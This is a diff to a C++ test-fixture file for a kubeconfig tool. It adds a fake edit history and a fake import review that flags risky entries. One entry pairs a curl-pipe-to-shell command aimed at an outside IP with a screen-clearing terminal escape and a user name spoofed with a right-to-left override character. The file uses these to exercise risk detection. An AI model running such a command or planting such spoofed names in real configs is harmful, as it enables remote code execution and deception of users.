@@ -149,4 +149,32 @@ Doctor::Report sampleReport()
     return report;
 }
 
+QList<Ui::HistoryItem> sampleHistory()
+{
+    const QStringList files { u"/home/jane/.kube/config"_s };
+    return { { 4, u"2026-11-24T11:02:10Z"_s, u"Switch to context staging"_s, files, false, true },
+             { 3, u"2026-11-24T10:41:55Z"_s, u"Undo: Delete context old"_s, files, true, true },
+             { 2, u"2026-11-24T10:41:02Z"_s, u"Delete context old"_s, files, true, true },
+             { 1, u"2026-11-23T16:20:31Z"_s, u"Set the sign-in of user oidc"_s, files, false, false } };
+}
+
+Ui::ImportReview sampleReview()
+{
+    using Kind = Kubeconfig::Risk::Kind;
+    using State = Kubeconfig::ImportedEntry::State;
+    using Kubeconfig::Section;
+    Ui::ImportReview review;
+    review.risks = {
+        { Kind::Path, "cluster prod-eu", "certificate-authority /home/jane/ca.pem", { 5, 5 } },
+        { Kind::Command, "user admin\xe2\x80\xaegpj", "sh -c 'curl -s http://203.0.113.9/x | sh'\x1b[2J", { 14, 7 } },
+        { Kind::Insecure, "cluster prod-eu", "the server's certificate is not checked", { 6, 5 } },
+        { Kind::Proxy, "cluster prod-eu", "proxy-url http://203.0.113.9:3128", { 7, 5 } },
+        { Kind::Secret, "user robot", "token in plain text", { 21, 5 } },
+    };
+    review.entries = { { Section::Clusters, "prod-eu", State::Different }, { Section::Clusters, "staging", State::Identical },
+                       { Section::Users, "admin\xe2\x80\xaegpj", State::New },  { Section::Users, "robot", State::New },
+                       { Section::Contexts, "new-cluster", State::New } };
+    return review;
+}
+
 } // namespace Fakes
